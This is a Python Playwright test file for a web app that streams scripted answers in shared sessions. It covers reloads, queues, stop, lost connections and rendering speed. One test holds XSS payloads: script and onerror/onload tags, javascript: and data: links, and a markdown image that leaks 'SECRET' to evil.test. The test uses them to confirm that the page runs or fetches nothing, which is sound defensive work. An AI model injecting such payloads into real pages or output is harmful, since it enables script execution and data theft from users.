"""A prompt, its streamed answer, and what a reload or a second tab shows of it."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import NewPerson, shot, transcript
from tests.journeys.client import Client, scripted

MARKDOWN = """The notes disagree in **four** places:

| Month | Notes | Amount |
|---|--:|--:|
| March | 18,204 | €8,412.50 |

```python
with transaction.atomic():
    note = Note.objects.create()  # once
```

- first
- second

It ends with [a link](https://docs.example.test/) and `code`."""
CUT = """async () => {
    const { connection } = await import('/static/js/connection.js');
    const socket = connection.socket;
    connection.open = () => {};
    socket.close();
    connection.lost(socket, 1006);
}"""
MEND = """async () => {
    const { connection } = await import('/static/js/connection.js');
    delete connection.open;
    connection.retryNow();
}"""
NO_SOCKETS = """
window.WebSocket = class {
    static OPEN = 1;
    static CONNECTING = 0;
    readyState = 3;
    constructor() { setTimeout(() => this.onclose({ code: 1006 }), 50); }
    close() {}
};
"""


def test_a_prompt_on_the_new_page_becomes_a_session_with_a_streamed_answer(
    person: NewPerson,
) -> None:
    someone = person("member")
    page = someone.tab(f"/w/{someone.workspace}/new/")
    page.fill("textarea", "What survives a crash?")
    page.press("textarea", "Enter")
    page.wait_for_url("**/s/ses_*/")
    expect(page.locator(".prompt")).to_contain_text("What survives a crash?")
    expect(page.locator(".answer")).to_be_visible()
    expect(page.locator(".answer.is-streaming")).to_have_count(0)
    expect(page.locator(".row[aria-current=page]")).to_be_visible()


def test_a_prompt_streams_without_a_reload_and_equals_the_reloaded_page(
    person: NewPerson, client: Client
) -> None:
    session = client.create("Survey of the northern sheets")
    page = person().tab(f"/s/{session}/")
    prompt = scripted(
        {"think": "Both tables first.", "call": [{"tool": "probe.lookup", "args": {}}]},
        {"say": MARKDOWN, "chunks": 25, "every_ms": 40},
    )
    page.fill("textarea", prompt)
    page.click("[data-composer] button.is-primary")
    expect(page.locator(".answer.is-streaming")).to_be_visible()
    expect(page.locator("[data-busy]")).to_contain_text("is working")
    expect(page.locator("[data-composer] button.is-primary")).to_contain_text("Queue")
    expect(page.locator(".answer.is-streaming")).to_have_count(0, timeout=20_000)
    expect(page.locator("[data-busy]")).to_have_count(0)
    expect(page.locator(".is-optimistic")).to_have_count(0)
    assert page.locator(".prompt").count() == 1
    expect(page.locator('[data-region="model"]')).to_have_text(["Scripted demo"] * 3)
    live = transcript(page)
    shot(page, "answer")
    page.reload()
    assert transcript(page) == live


def test_a_reload_in_mid_answer_begins_with_the_first_word_and_goes_on(
    person: NewPerson, client: Client
) -> None:
    words = " ".join(f"word{number}" for number in range(80))
    someone = person()
    session = client.start({"say": words, "chunks": 80, "every_ms": 60})
    page = someone.tab(f"/s/{session}/")
    expect(page.locator(".answer")).to_contain_text("word9 ")
    page.reload()
    text = page.locator(".answer").inner_text()
    assert text.startswith("word0 word1 ")
    expect(page.locator(".answer")).to_contain_text("word79", timeout=20_000)
    expect(page.locator(".answer.is-streaming")).to_have_count(0)
    assert page.locator(".answer").inner_text().split() == words.split()


def test_two_people_see_the_same(person: NewPerson, client: Client) -> None:
    session = client.create("Seen by two")
    first = person().tab(f"/s/{session}/")
    second = person("member").tab(f"/s/{session}/")
    first.fill("textarea", scripted({"say": MARKDOWN, "chunks": 10, "every_ms": 50}))
    first.press("textarea", "Enter")
    for page in (first, second):
        expect(page.locator(".answer")).to_contain_text("It ends with")
        expect(page.locator(".answer.is-streaming")).to_have_count(0)
    assert transcript(first) == transcript(second)


def test_prompts_sent_while_busy_wait_in_the_queue_and_then_run_in_order(
    person: NewPerson, client: Client
) -> None:
    someone = person()
    session = client.start({"say": "slow " * 60, "chunks": 60, "every_ms": 100})
    page = someone.tab(f"/s/{session}/")
    expect(page.locator("[data-busy]")).to_contain_text("Turn 1 is working")
    for text in ("second", "third"):
        page.fill("textarea", scripted({"say": f"answer to the {text}"}))
        page.press("textarea", "Enter")
    expect(page.locator("[data-queued]")).to_have_count(2)
    expect(page.locator(".is-optimistic")).to_have_count(0)
    expect(page.locator("[data-queued]").first).to_contain_text("after turn 1")
    shot(page, "queue")
    expect(page.locator(".answer").nth(2)).to_contain_text("answer to the third", timeout=20_000)
    kinds = page.locator("[data-kind]").evaluate_all("all => all.map(one => one.dataset.kind)")
    assert kinds == ["prompt", "answer"] * 3


def test_stop_keeps_what_was_written_and_says_by_whom(person: NewPerson, client: Client) -> None:
    someone = person()
    session = client.start({"say": "kept " * 400, "chunks": 400, "every_ms": 50})
    page = someone.tab(f"/s/{session}/")
    expect(page.locator(".answer")).to_contain_text("kept kept")
    page.click("[data-do=stop]")
    expect(page.locator(".note")).to_contain_text("Stopped by Ada Moreau")
    expect(page.locator("[data-busy]")).to_have_count(0)
    expect(page.locator(".answer")).to_contain_text("kept kept")
    live = transcript(page)
    page.reload()
    assert transcript(page) == live


def test_a_lost_connection_is_told_and_nothing_is_shown_twice_or_missed(
    person: NewPerson, client: Client
) -> None:
    words = " ".join(f"word{number}" for number in range(60))
    someone = person()
    session = client.start({"say": words, "chunks": 60, "every_ms": 100})
    page = someone.tab(f"/s/{session}/")
    expect(page.locator(".answer")).to_contain_text("word5 ")
    page.evaluate(CUT)
    expect(page.locator("[data-connection]")).to_be_visible()
    expect(page.locator("[data-connection]")).to_contain_text("You have everything up to #")
    shot(page, "reconnecting")
    page.evaluate(MEND)
    expect(page.locator("[data-connection]")).to_be_hidden()
    expect(page.locator(".answer")).to_contain_text("word59", timeout=20_000)
    assert page.locator(".answer").inner_text().split() == words.split()


def test_a_browser_whose_sockets_are_blocked_follows_by_events(
    person: NewPerson, client: Client
) -> None:
    session = client.create("Behind a strict proxy")
    someone = person()
    page = someone.tab()
    page.add_init_script(NO_SOCKETS)
    page.goto(f"{someone.server.url}/s/{session}/")
    page.wait_for_timeout(2_000)
    page.fill("textarea", scripted({"say": "still arrives " * 10, "chunks": 10, "every_ms": 50}))
    page.press("textarea", "Enter")
    expect(page.locator(".answer")).to_contain_text("still arrives", timeout=20_000)
    expect(page.locator(".answer.is-streaming")).to_have_count(0)
    assert page.locator(".prompt").count() == 1


HOSTILE = "\n\n".join(
    [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "<svg onload=alert(1)></svg> [click](javascript:alert(1))",
        "![leak](https://evil.test/?q=SECRET) [a](data:text/html,<script>alert(1)</script>)",
        "```html\n<script>alert(1)</script>\n```",
    ]
)


def test_hostile_output_runs_nothing_and_asks_nobody(person: NewPerson, client: Client) -> None:
    session = client.create("<img src=x onerror=alert(1)>")
    page = person().tab(f"/s/{session}/")
    asked: list[str] = []
    shown: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (shown.append(dialog.message), dialog.dismiss()))
    page.fill("textarea", scripted({"say": HOSTILE, "chunks": 12, "every_ms": 30}))
    page.press("textarea", "Enter")
    expect(page.locator(".answer")).to_contain_text("leak (evil.test)")
    expect(page.locator(".answer.is-streaming")).to_have_count(0)
    page.reload()
    page.wait_for_timeout(500)
    assert shown == []
    assert [url for url in asked if "evil" in url] == []
    assert page.locator("[data-transcript] img, [data-transcript] script").count() == 0


# Of a machine that has other work: still far from what rendering the whole text anew would take.
@pytest.mark.parametrize(
    "most_ms", [pytest.param(200, marks=[pytest.mark.proof, pytest.mark.alone]), 1_000]
)
def test_a_long_answer_streams_without_holding_the_page(
    person: NewPerson, client: Client, most_ms: int
) -> None:
    session = client.create("Long and fast")
    page = person().tab(f"/s/{session}/")
    page.evaluate(
        """() => {
            window.longest = 0;
            new PerformanceObserver((list) => {
                for (const entry of list.getEntries())
                    window.longest = Math.max(window.longest, entry.duration);
            }).observe({ type: "longtask" });
        }"""
    )
    text = "\n\n".join(f"Paragraph {n}: " + "some **words** of it. " * 20 for n in range(120))
    page.fill("textarea", scripted({"say": text, "chunks": 400, "every_ms": 10}))
    page.press("textarea", "Enter")
    expect(page.locator(".answer")).to_contain_text("Paragraph 119", timeout=30_000)
    expect(page.locator(".answer.is-streaming")).to_have_count(0)
    assert page.evaluate("window.longest") < most_ms
